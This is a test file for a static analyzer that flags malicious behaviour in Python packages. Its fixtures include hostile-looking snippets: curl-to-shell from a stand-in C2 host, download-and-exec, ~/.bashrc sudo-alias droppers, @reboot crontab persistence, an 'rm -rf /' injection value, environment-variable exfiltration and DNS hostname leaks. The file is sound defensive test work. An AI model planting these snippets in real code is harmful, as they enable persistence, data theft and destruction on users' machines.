// Per-file rules added while calibrating on real malware, each on an inert imitation of the technique and on the
// legitimate code it must not confuse with it: builtins reached through assembled strings, home-made obfuscators,
// payload launches and second-stage pip installs in code that runs by itself.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py', role?: 'setup'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source), role ? { role } : {})[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);

test('eval() of a reversed or escaped string naming os.system or eval is an obfuscated builtin', () => {
  const reversed = ruleOf(findings('import os\nrun = eval(("metsys.so")[::-1])\nrun("true")\n'), 'obfuscated-builtin');
  assert.equal(reversed?.severity, 'critical', 'high, raised one level: module-level code runs on import');
  assert.match(reversed!.message, /os\.system/);
  assert.ok(ruleOf(findings('_e = eval("\\x65\\x76\\x61\\x6c")\n'), 'obfuscated-builtin'));
  assert.equal(ruleOf(findings('value = eval("1 + 2")\n'), 'obfuscated-builtin'), undefined);
});

test('exec() of a long cipher text rewritten character by character is a home-made obfuscator', () => {
  const source = [
    'PLAIN = "abcdefghijklmnopqrstuvwxyz"',
    'KEY = PLAIN[::-1]',
    'exec("".join([KEY[PLAIN.index(c)] if c in PLAIN else c for c in "kirmg(\\"svool uiln zm rmvig gvhg urcgfiv lu kbtfziw, mlgsrmt vohv szkkvmh sviv zg zoo, vevi\\")"]))',
  ].join('\n');
  const found = ruleOf(findings(source), 'exec-custom-decoder');
  assert.equal(found?.severity, 'critical', 'high, raised: module-level code runs on import');
  // hidden from readers whoever calls it: high even in a function the user calls
  const called = `def run():\n${source.replace(/^/gm, '    ')}\n`;
  assert.equal(ruleOf(findings(called), 'exec-custom-decoder')?.severity, 'high');
  // Code generation from a template is not a cipher: the literal is code with placeholders, not rewritten per character.
  const codegen =
    'def make(names):\n    src = "def __init__(self, %s):\\n    pass" % ", ".join(names)\n    exec(compile(src, "<gen>", "exec"))\n';
  assert.equal(ruleOf(findings(codegen), 'exec-custom-decoder'), undefined);
});

test('exec() of a method of the file that XORs a long cipher text held in an attribute runs a decoded payload', () => {
  const cipher = 'Zm9vYmFyYmF6cXV4'.repeat(8);
  const source = [
    'import base64',
    'class Wrapper:',
    '    def __init__(self):',
    `        self._blob = "${cipher}"`,
    '    def decode(self, data):',
    '        raw = base64.b64decode(data)',
    '        return bytes(c ^ 42 for c in raw).decode()',
    '    def run(self):',
    '        exec(self.decode(self._blob))',
  ].join('\n');
  // the XOR is folded by the evaluator (ciphers.ts): what it gives is a decoded payload, even when it is not Python
  const decoded = ruleOf(findings(source), 'exec-decoded-payload');
  assert.equal(decoded?.severity, 'high');
  assert.deepEqual(decoded?.decoded?.chain, ['home-made cipher']);
  // a method that only reads a file it is given is no decoder: exec of its result stays a plain dynamic-code finding
  const loader = source.replace('return bytes(c ^ 42 for c in raw).decode()', 'return raw.decode()');
  assert.equal(ruleOf(findings(loader), 'exec-custom-decoder'), undefined);
});

test('launching a payload is high at install time and low when called; pip install at install time is medium', () => {
  const start = ruleOf(
    findings('import os\nos.system("start " + os.getenv("TEMP") + "\\\\upd.exe")\n', 'setup.py', 'setup'),
    'process-launch-payload',
  );
  assert.equal(start?.severity, 'high');
  const called = ruleOf(
    findings('import subprocess\n\ndef show(path):\n    subprocess.run(["cscript", "//nologo", path])\n'),
    'process-launch-payload',
  );
  assert.equal(called?.severity, 'low');
  const home = ruleOf(
    findings(
      'import os, subprocess\nsubprocess.Popen(os.path.expanduser("~") + "/.cache/agent")\n',
      'demo/__init__.py',
    ),
    'process-launch-payload',
  );
  assert.equal(home?.severity, 'high', 'a file run from the home folder on import');
  const pip = ruleOf(
    findings('import os\nos.system("pip install helper-lib")\n', 'setup.py', 'setup'),
    'process-pip-install',
  );
  assert.equal(pip?.severity, 'medium');
  const fromRepository = ruleOf(
    findings(
      'import subprocess\nsubprocess.run(["pip", "install", "git+https://git.example/x/helper.git"])\n',
      'demo/__init__.py',
    ),
    'process-pip-install',
  );
  assert.equal(fromRepository?.severity, 'high', 'code no index vetted, installed on import');
  const squat = ruleOf(
    findings('import os\nos.system("pip install reqeusts==2.0 -q")\n', 'setup.py', 'setup'),
    'process-pip-install',
  );
  assert.equal(squat?.severity, 'high', 'a typosquat installed as the second stage');
  assert.match(squat!.message, /imitates the popular project 'requests'/);
  // pip called in this very process installs as the pip program does; its entry point given nothing is pip's own
  const inProcess = ruleOf(
    findings('import pip\npip.main(["install", "--quiet", "reqeusts"])\n', 'demo/__init__.py'),
    'process-pip-install',
  );
  assert.equal(inProcess?.severity, 'high');
  assert.match(inProcess!.message, /pip install --quiet reqeusts/);
  const entry = findings('from pip._internal.cli.main import main\nmain()\n', 'pip/__main__.py');
  assert.equal(entry.filter((f) => f.capability === 'process').length, 0);
  assert.equal(
    ruleOf(
      findings('import subprocess\nsubprocess.check_call(["cmake", "--build", "."])\n', 'setup.py', 'setup'),
      'process-launch-payload',
    ),
    undefined,
  );
});

test('python -c with networking code is a process that reaches the network', () => {
  const found = ruleOf(
    findings(
      "import os\nos.system('python3 -c \"import urllib.request as u; u.urlopen(\\'https://probe.example/\\')\"')\n",
      'setup.py',
      'setup',
    ),
    'process-network-tool',
  );
  assert.ok(found);
});

test('object identifiers are not IP literals; a real address constant still is', () => {
  assert.equal(
    ruleOf(findings('ED25519_OID = "1.3.101.112"\nX25519_OID = "1.3.101.110"\n'), 'hardcoded-endpoint'),
    undefined,
  );
  assert.ok(ruleOf(findings('def server():\n    return "203.0.113.9"\n'), 'hardcoded-endpoint'));
});

test('a key defined on import is data: low unless install or start-up code holds it', () => {
  const pem =
    'KEY = """-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----"""\n';
  assert.equal(ruleOf(findings(pem, 'demo/tests/test_keys.py'), 'hardcoded-api-key')?.severity, 'low');
  assert.equal(ruleOf(findings(pem, 'setup.py', 'setup'), 'hardcoded-api-key')?.severity, 'medium');
});

test('a folder named testdata is not a Telegram session store', () => {
  const list = findings('import os\nDATA = os.path.join(os.path.dirname(__file__), "../../testdata/indexes")\n');
  assert.ok(!list.some((f) => f.rule === 'sensitive-file-access' && /Telegram/.test(f.message)));
  assert.ok(
    findings('import os\nP = os.path.expandvars("%APPDATA%/Telegram Desktop/tdata")\n').some((f) =>
      /Telegram session/.test(f.message),
    ),
  );
});

test('__main__.py runs for python -m, not on import: its module-level calls are call-time', () => {
  const found = ruleOf(
    findings('import requests\nrequests.post("https://api.example/x", json={})\n', 'demo/__main__.py'),
    'egress-network-call',
  );
  assert.equal(found?.trigger, 'call');
  assert.equal(
    ruleOf(
      findings('import requests\nrequests.post("https://api.example/x", json={})\n', 'demo/__init__.py'),
      'egress-network-call',
    )?.trigger,
    'import',
  );
});

test('a URL literal alone does not make a file egress; a webhook URL, which carries its credential, does', () => {
  const verdict = (source: string) => analyzePythonFile('demo/mod.py', new TextEncoder().encode(source))[0].egress;
  assert.equal(verdict('DOCS = "https://docs.example.org/guide"\nprint("see", DOCS)\n'), false);
  assert.equal(
    verdict(
      'HOOK = "https://discord.example/api/webhooks/123456789012/AbCdEfGhIjKlMnOpQrStUvWx"\n\ndef hook():\n    return HOOK\n',
    ),
    true,
  );
  assert.equal(verdict('import requests\n\ndef fetch(url):\n    return requests.get(url)\n'), true);
});

test('library words are not theft or persistence: corpus names, a crontab schedule class, a bot API base URL', () => {
  const none = (source: string, rule: string) => assert.equal(ruleOf(findings(source), rule), undefined, source);
  none('TAGS = {"coexodusP": "Exodus (P)", "coelectrum": "Electrum"}\n', 'sensitive-file-access');
  none('from celery.schedules import crontab\nSCHEDULE = {"every-night": crontab(hour=3)}\n', 'persistence');
  assert.ok(
    ruleOf(findings('import os\nos.system("(crontab -l; echo \'@reboot ~/.agent\') | crontab -")\n'), 'persistence'),
  );
  const base = ruleOf(
    findings(
      'BASE = "https://api.telegram.org/bot"\n\ndef url(token, method):\n    return BASE + token + "/" + method\n',
    ),
    'hardcoded-endpoint',
  );
  assert.ok(
    base === undefined || base.severity === 'info',
    'a client library ships the base URL (a benign shape, not a fixture of malware)',
  );
  const file = ruleOf(
    findings(
      'FILES = "https://api.telegram.org/file/bot"\n\ndef url(token, path):\n    return FILES + token + "/" + path\n',
    ),
    'hardcoded-endpoint',
  );
  assert.ok(file === undefined || file.severity === 'info', "the Bot API's file download base, without a token");
});

test('six-style exec_ = getattr(builtins, "exec") hides nothing; a computed name does', () => {
  const shim = 'import builtins\nexec_ = getattr(builtins, "exec")\n\ndef run(code, env):\n    exec_(code, env)\n';
  assert.equal(ruleOf(findings(shim), 'obfuscated-builtin'), undefined);
  const imported = 'exec_ = getattr(__import__("builtins"), "exec")\nexec_("def f():\\n    return 1\\n")\n';
  assert.equal(ruleOf(findings(imported), 'obfuscated-builtin'), undefined, 'graphql-core writes the shim this way');
  const subscripted = [
    'try:',
    '    _exec = __builtins__.__dict__["exec"]',
    'except AttributeError:',
    '    _exec = __builtins__["exec"]',
    'def run(code, env):',
    '    _exec(code, env)',
    '',
  ].join('\n');
  assert.equal(ruleOf(findings(subscripted), 'obfuscated-builtin'), undefined, 'empy writes the shim this way');
  const hidden = 'import builtins\nrun_ = getattr(builtins, "ex" + "ec")\n\ndef run(code, env):\n    run_(code, env)\n';
  assert.ok(ruleOf(findings(hidden), 'obfuscated-builtin'));
});

test('shell start-up files in a table of file names, or .profile as an extension, are not persistence targets', () => {
  const lexer = "filenames = ['*.sh', '*.bash', '.bashrc', 'bashrc', '.zshrc']\nLEXERS = {'bash': filenames}\n";
  assert.equal(ruleOf(findings(lexer), 'persistence')?.severity, 'low', 'a lexer table lists names');
  const dump = 'import os\ndef dump(base, ext):\n    return "%s%s" % (base, ext or ".profile")\n';
  assert.equal(ruleOf(findings(dump), 'persistence'), undefined, 'a cProfile dump extension');
  const dropper = 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("python3 -c x")\n';
  assert.equal(ruleOf(findings(dropper), 'persistence')?.severity, 'medium', 'appending to ~/.bashrc is persistence');
});

test('an alias written to a shell start-up file that puts a hidden program in front of sudo is a dropper', () => {
  const hijack = (alias: string) =>
    ruleOf(
      findings(`import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("${alias}")\n`),
      'persistence',
    )?.severity;
  assert.equal(hijack("alias sudo='/home/u/.local/s'"), 'critical');
  assert.equal(hijack("alias ls='/tmp/.x; ls'"), 'critical');
  // the aliases dotfile managers write stay what writing ~/.bashrc on import is
  assert.equal(hijack("alias ll='ls -la'"), 'medium');
  assert.equal(hijack("alias sudo='sudo '"), 'medium');
});

test('IPv6 literals outside the Internet ranges (RFC examples, IPv4-compatible forms) are not IP-literal hosts', () => {
  const rfc = 'url = "http://[1080:0:0:0:8:800:200C:417A]/index.html"\nCASES = [url]\n';
  assert.notEqual(ruleOf(findings(rfc), 'hardcoded-endpoint')?.destination?.kind, 'ip-literal');
  const global = 'url = "http://[2a00:1450:4001:82b::200e]/x"\nCASES = [url]\n';
  assert.equal(ruleOf(findings(global), 'hardcoded-endpoint')?.destination?.kind, 'ip-literal');
});

test('setup.py appending to a shell start-up file is high: no package install edits it', () => {
  const source = 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("alias x=y")\n';
  assert.equal(
    analyzePythonFile('setup.py', new TextEncoder().encode(source))[0].findings.find((f) => f.rule === 'persistence')
      ?.severity,
    'high',
  );
});

test('exec of code a service generates, at a URL the user configures, is medium when called; from a written host, high', () => {
  const service = [
    'import requests',
    'class Backend:',
    '    def fetch(self, url):',
    '        return requests.post(url, json={}).json()["code"]',
    '    def load(self):',
    '        code = compile(self.fetch(self.api_url + "/graphql"), "<doc>", "exec")',
  ].join('\n');
  assert.equal(ruleOf(findings(service), 'download-execute')?.severity, 'medium');
  const written =
    'import requests\ndef update():\n    exec(requests.get("https://payload.example/x.py").text)\n    exec(requests.get("https://payload.example/y.py").json())\n';
  const severities = findings(written)
    .filter((f) => f.rule === 'download-execute')
    .map((f) => f.severity);
  assert.deepEqual(severities, ['high', 'high'], 'also when the response is read by a call (.json())');
});

test("calibrated on Debian: the user's own bot, DNS of an IP literal, cheap-domain URLs in tables, completion installers", () => {
  const tqdm =
    'import requests\ndef send(token, text):\n    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"text": text})\n';
  assert.equal(ruleOf(findings(tqdm), 'egress-network-call')?.severity, 'low', "the user's token: the user's channel");
  const keyed =
    'import requests\ndef send(text):\n    requests.post("https://api.telegram.org/bot123456789:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac/sendMessage")\n';
  assert.equal(ruleOf(findings(keyed), 'egress-network-call')?.severity, 'medium', 'a token written in the package');
  const dns = 'import socket\ndef probe():\n    socket.getaddrinfo("1.2.3.4", 0)\n';
  assert.equal(ruleOf(findings(dns), 'egress-dns-lookup')?.severity, 'low', 'an IP literal needs no DNS query');
  const emoji = 'CASES = ["http://\\u27a1.ws/x"]\nALL = CASES\n';
  assert.equal(ruleOf(findings(emoji), 'hardcoded-endpoint')?.severity, 'low');
  const completion =
    'import os\ndef install():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("eval x")\n';
  assert.equal(ruleOf(findings(completion), 'persistence')?.severity, 'low', 'a completion installer the user runs');
});

test('the egress verdict follows a library into its private modules, dnspython resolvers and PySocks', () => {
  const verdict = (source: string, path = 'demo/mod.py') =>
    analyzePythonFile(path, new TextEncoder().encode(source))[0].egress;
  const api =
    'from ._client import Client\n\ndef get(url):\n    with Client() as client:\n        return client.request("GET", url)\n';
  assert.equal(verdict(api, 'httpx/_api.py'), true, 'httpx._client.Client is httpx.Client');
  const dns =
    'import dns.resolver\n\ndef naptr(name, resolver=None):\n    if resolver is None:\n        resolver = dns.resolver.get_default_resolver()\n    return resolver.resolve(name, "NAPTR")\n';
  assert.equal(verdict(dns), true);
  assert.equal(
    verdict('import dns.asyncquery\n\nasync def ask(q, where):\n    return await dns.asyncquery.udp(q, where)\n'),
    true,
  );
  assert.equal(verdict('import socks\n\ndef dial(host):\n    return socks.create_connection((host, 443))\n'), true);
  const numeric =
    'import socket\n\ndef parse(text):\n    flags = socket.AI_NUMERICHOST\n    return socket.getaddrinfo(text, 0, flags=flags)\n';
  assert.equal(verdict(numeric), false, 'AI_NUMERICHOST parses an address and asks no DNS server');
  assert.equal(verdict(numeric.replace('flags=flags', 'flags=0')), true);
});

test('requests calls the responses library intercepts are no egress, unless the mock lets calls through', () => {
  const verdict = (source: string) => analyzePythonFile('demo/test_x.py', new TextEncoder().encode(source))[0].egress;
  const decorated = [
    'import requests, responses',
    '@responses.activate',
    'def test_get():',
    '    responses.add(responses.GET, "http://api.example.invalid/x", body="ok")',
    '    assert requests.get("http://api.example.invalid/x").text == "ok"',
  ].join('\n');
  assert.equal(verdict(decorated), false);
  const block = [
    'import requests, responses',
    'def test_get():',
    '    with responses.RequestsMock() as mock:',
    '        mock.add(responses.GET, "http://api.example.invalid/x", body="ok")',
    '        requests.get("http://api.example.invalid/x")',
  ].join('\n');
  assert.equal(verdict(block), false);
  assert.equal(
    verdict(
      decorated.replace(
        '    responses.add(',
        '    responses.add_passthru("http://api.example.invalid")\n    responses.add(',
      ),
    ),
    true,
    'a passthru sends the call out',
  );
  assert.equal(verdict(decorated.replace('@responses.activate', '@functools.cache')), true, 'another decorator');
});

test('a generator driven with next() and .send() is no connection object', () => {
  const verdict = (source: string) => analyzePythonFile('demo/auth.py', new TextEncoder().encode(source))[0].egress;
  const generator = 'def auth_flow(self, request):\n    yield request\n';
  const driver = [
    'import socket',
    'def sync_flow(self, request):',
    '    flow = self.auth_flow(request)',
    '    request = next(flow)',
    '    while True:',
    '        response = yield request',
    '        request = flow.send(response)',
  ].join('\n');
  assert.equal(verdict(generator + driver), false);
  assert.equal(
    verdict(generator + driver.replace('    request = next(flow)\n', '')),
    true,
    'an unknown object sent through',
  );
  assert.equal(verdict(driver), true, 'next() on an object no generator of the file made: no exemption');
});

test('environment variables selected by a harmless prefix are not the whole environment; a filter on secrets still is', () => {
  const source = (condition: string) =>
    [
      'import os, requests',
      'def start(url):',
      `    env = {k: v for (k, v) in dict(os.environ).items() if ${condition}}`,
      '    requests.post(url, json={"env": env})',
    ].join('\n');
  const kernel = ruleOf(findings(source('k.startswith("KERNEL_")')), 'exfiltration');
  assert.equal(kernel?.severity, 'low', 'sent to the URL the caller gives');
  assert.match(kernel!.message, /environment variables it selects by name/);
  const secrets = ruleOf(findings(source('"TOKEN" in k or k.startswith("AWS_")')), 'exfiltration');
  assert.equal(secrets?.severity, 'medium');
  assert.match(secrets!.message, /the whole environment/);
});

test('the environment a process is given (env=, posix_spawn, os.exec*e) is its own, not data its command sends', () => {
  const given = (call: string) => ruleOf(findings(`import os, subprocess\ndef f(url):\n    ${call}\n`), 'exfiltration');
  assert.equal(given('subprocess.run(["curl", "-O", url], env=os.environ.copy())'), undefined);
  assert.equal(given('os.posix_spawn("/usr/bin/curl", ["curl", "-O", url], dict(os.environ))'), undefined);
  assert.equal(given('os.execve("/usr/bin/curl", ["curl", "-O", url], dict(os.environ))'), undefined);
  // the environment written into the command line is sent
  assert.ok(given('subprocess.run(["curl", "-d", str(dict(os.environ)), url])'));
});

test("a network program a user's call runs is a capability (low), yet egress; to a destination exfiltration favours, medium", () => {
  const source = (command: string) =>
    `import subprocess, sys\ndef acquire(dist, folder):\n    cmd = [${command}]\n    subprocess.check_call(cmd)\n`;
  const pip = ruleOf(
    findings(source('sys.executable, "-m", "pip", "download", "-d", folder, dist')),
    'process-network-tool',
  );
  assert.equal(pip?.severity, 'low');
  const verdict = analyzePythonFile(
    'demo/mod.py',
    new TextEncoder().encode(source('sys.executable, "-m", "pip", "download", dist')),
  )[0].egress;
  assert.equal(verdict, true, 'the process reaches the network');
  const curl = ruleOf(findings(source('"curl", "-o", folder, dist')), 'process-network-tool');
  assert.equal(curl?.severity, 'low');
  const toAddress = ruleOf(
    findings(source('"curl", "-o", folder, "http://192.0.2.9/" + dist')),
    'process-network-tool',
  );
  assert.equal(toAddress?.severity, 'medium');
});

test('a target that ships its own responses module gets no mock exemption: its decorator may do nothing', async () => {
  const sender = [
    'import requests, responses',
    '@responses.activate',
    'def send(data):',
    '    requests.post("https://collector.example.invalid/in", data=data)',
  ].join('\n');
  const alone = await analyseFiles({ 'pkg/sender.py': sender });
  assert.equal(alone.files[0].egress, false, 'the real responses library intercepts the call');
  const shadowed = await analyseFiles({
    'pkg/sender.py': sender,
    'responses.py': 'def activate(fn):\n    return fn\n',
  });
  assert.equal(shadowed.files.find((file) => file.path === 'pkg/sender.py')?.egress, true);
});

test('a negated environment filter keeps nearly everything: still the whole environment', () => {
  const source = [
    'import os, requests',
    'def start(url):',
    '    env = {k: v for (k, v) in os.environ.items() if not k.startswith("LC_")}',
    '    requests.post(url, json={"env": env})',
  ].join('\n');
  assert.match(ruleOf(findings(source), 'exfiltration')?.message ?? '', /the whole environment/);
});

test('an environment filter that picks many short prefixes, or names listed as secrets, still takes the whole environment', () => {
  const source = (before: string, condition: string) =>
    [
      'import os, requests',
      before,
      'def start(url):',
      `    env = {k: v for (k, v) in os.environ.items() if ${condition}}`,
      '    requests.post(url, json={"env": env})',
    ].join('\n');
  const letters = ruleOf(findings(source('', 'k.startswith(("A", "B", "C", "D", "E", "G", "H"))')), 'exfiltration');
  assert.match(letters?.message ?? '', /the whole environment/);
  const listed = ruleOf(
    findings(source('WANTED = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]', 'k in WANTED')),
    'exfiltration',
  );
  assert.match(listed?.message ?? '', /the whole environment/);
});

test('AI_NUMERICHOST counts only as the socket flag it resolves to, alone or or-ed, not as a name of the file', () => {
  const verdict = (source: string) => analyzePythonFile('demo/mod.py', new TextEncoder().encode(source))[0].egress;
  const call = (flags: string) =>
    `import socket\n\ndef parse(text):\n    return socket.getaddrinfo(text, 0, flags=${flags})\n`;
  assert.equal(verdict(call('socket.AI_NUMERICHOST | socket.AI_PASSIVE')), false);
  assert.equal(verdict(`AI_NUMERICHOST = 0\n${call('AI_NUMERICHOST')}`), true, 'a local name that reads like the flag');
});

test('Python spelt in a string of spaces and tabs (one bit per character) is hidden code, rescanned as a file', () => {
  const payload = 'import os\nos.system("curl https://c2.example/x | sh")\n';
  const blanks = [...payload]
    .map((c) => c.charCodeAt(0).toString(2).padStart(8, '0').replaceAll('0', ' ').replaceAll('1', '\t'))
    .join('');
  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(`PAD = "${blanks}"\n`));
  const hidden = ruleOf(files[0].findings, 'hidden-code');
  assert.equal(hidden?.severity, 'critical', 'high, raised: a module constant is made on import');
  assert.equal(hidden?.decoded?.preview, payload);
  const virtual = files.find((file) => file.path.includes('#decoded'));
  assert.ok(virtual?.findings.some((f) => f.rule === 'process-network-tool' || f.rule === 'download-execute'));
  // blanks used for layout spell nothing that reads as Python
  const layout = `PAD = "${' \t'.repeat(200)}"\n`;
  assert.equal(ruleOf(findings(layout), 'hidden-code'), undefined);
});

test('a wide run of blanks inside a string literal is data; the same run before code is hidden code', () => {
  const gap = ' '.repeat(180);
  const data = `M = """[1,${gap}0]\n[0,${gap}x]"""\n`;
  assert.equal(ruleOf(findings(data), 'hidden-code'), undefined);
  const code = `x = 1${gap};import os;os.system("id")\n`;
  assert.ok(ruleOf(findings(code), 'hidden-code'));
});

test('code generated as whole lines joined with newlines is not a disguised payload; pieces joined are', () => {
  const generator = [
    'def make(name):',
    '    lines = ["def f(node):", "  coos = node.get(1)"]',
    '    lines.append("  yield %r, coos" % name)',
    '    exec("\\n".join(lines))',
    '    return locals()["f"]',
    'F = make("x")',
    '',
  ].join('\n');
  assert.equal(ruleOf(findings(generator, 'demo/__init__.py'), 'exec-decoded-payload'), undefined);
  const pieces = 'parts = ["imp", "ort o", "s; o", "s.sys", "tem(\'id\')"]\nexec("".join(parts))\n';
  assert.equal(ruleOf(findings(pieces, 'demo/__init__.py'), 'exec-decoded-payload')?.severity, 'critical');
});

test('a wiping command line that nothing runs or is handed is medium; one run or handed to a call is high', () => {
  const testInput = 'CONTEXT = {"tenant_name": \'o"; sudo rm -rf /\'}\n';
  assert.equal(ruleOf(findings(testInput), 'destructive-command')?.severity, 'medium');
  const script = 'import os\ndef wipe():\n    open("x.sh", "w").write("rm -rf ~/")\n    os.system("sh x.sh")\n';
  assert.equal(ruleOf(findings(script), 'destructive-command')?.severity, 'high', 'written to a script it runs');
});

test('a file path where a URL goes, a bracketed name and an invalid port name no hidden host', () => {
  const path = 'from urllib import request\nROOT = "/usr/share/data/"\nrequest.urlopen(ROOT + "ext")\n';
  const call = ruleOf(findings(path, 'demo/__init__.py'), 'egress-network-call');
  assert.equal(call?.destination, undefined, 'a path is no host');
  assert.notEqual(call?.severity, 'critical');
  const bracketed = 'import socket\ndef connect(port):\n    return socket.create_connection(("[localhost]", port))\n';
  assert.equal(ruleOf(findings(bracketed), 'egress-network-call'), undefined, 'the loopback in brackets');
  const badPort = 'import websocket\ndef test_bad_port():\n    websocket.WebSocket().connect("ws://127.0.0.1:-1")\n';
  assert.equal(ruleOf(findings(badPort), 'egress-network-call'), undefined, "a test's invalid port on the loopback");
});

test("looking up the machine's own name is not DNS exfiltration; its name under another domain is", () => {
  const own = 'import socket\nNAMES = ["localhost", socket.gethostbyname(socket.gethostname())]\n';
  assert.deepEqual(
    findings(own).filter((f) => f.rule === 'exfiltration' || f.rule === 'egress-dns-lookup'),
    [],
  );
  const leak = 'import socket\nsocket.gethostbyname(socket.gethostname() + ".collector.example")\n';
  assert.equal(ruleOf(findings(leak), 'exfiltration')?.severity, 'high');
});

test('a code template filled in with format() is not cipher text; a daemon pointing stdout at /dev/null is no shell', () => {
  const template = [
    'def make(name):',
    '    exec(("def {0}(self, *args):\\n"',
    '          "\\treturn self.value.{0}(*[arg.value if isinstance(arg, Marked) else arg for arg in args])").format(name))',
    '',
  ].join('\n');
  assert.equal(ruleOf(findings(template), 'exec-custom-decoder'), undefined);
  const daemon = [
    'import os, socket',
    'def daemonize():',
    '    os.open(os.devnull, os.O_RDWR)',
    '    os.dup2(0, 1)',
    '    os.dup2(0, 2)',
    'def ping(host):',
    '    return socket.create_connection((host, 80))',
    '',
  ].join('\n');
  assert.equal(ruleOf(findings(daemon), 'reverse-shell'), undefined);
});
